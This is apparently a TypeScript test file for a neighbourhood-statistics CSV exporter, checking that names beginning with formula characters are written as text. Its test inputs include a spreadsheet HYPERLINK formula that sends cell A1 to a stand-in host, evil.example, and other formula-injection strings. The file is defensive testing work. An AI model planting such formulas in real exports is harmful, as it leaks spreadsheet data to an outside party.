import { writerFor } from '../../../gateway/bi/writers';
import type { Column } from '../../../gateway/bi/datasets';
import { neutraliseFormula } from '@buurtgraaf/platform';

const column = (name: string, type: Column['type']) =>
  ({ name, type, description: name, path: [] }) as unknown as Column;
const columns = [column('neighbourhood_name', 'string'), column('population_growth', 'decimal')];

describe('CSV formula injection', () => {
  test('when a partner names an area like a formula, then every CSV variant writes it as text, not a formula', () => {
    for (const delimiter of ['comma', 'semicolon'] as const) {
      const writer = writerFor('csv', columns, delimiter);
      const cells = [
        '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
        '+31 SUM(A1:A9)',
        '-2+3',
        '@SUM(A1)',
        '\t=1+1',
        '\r=1+1',
      ];
      const lines = cells.map((name) => writer.row([name, -3.5]));
      for (const line of lines) expect(line).toMatch(/^"?'/);
      // Numbers stay numbers: a negative decimal is data, not a formula.
      expect(lines[0]).toContain(delimiter === 'comma' ? ',-3.5\r\n' : ';-3,5\r\n');
    }
  });

  test('when a name only contains such a character later on, then it is written unchanged', () => {
    expect(writerFor('csv', columns).row(['Oog in Al - Noord', 1])).toBe('Oog in Al - Noord,1\r\n');
    expect(neutraliseFormula('Lombok=Oost')).toBe('Lombok=Oost');
  });

  test('when the same name goes out as JSON, then it is left as it is (JSON is not opened as a spreadsheet)', () => {
    expect(writerFor('jsonl', columns).row(['=1+1', 2])).toBe('{"neighbourhood_name":"=1+1","population_growth":2}\n');
  });
});
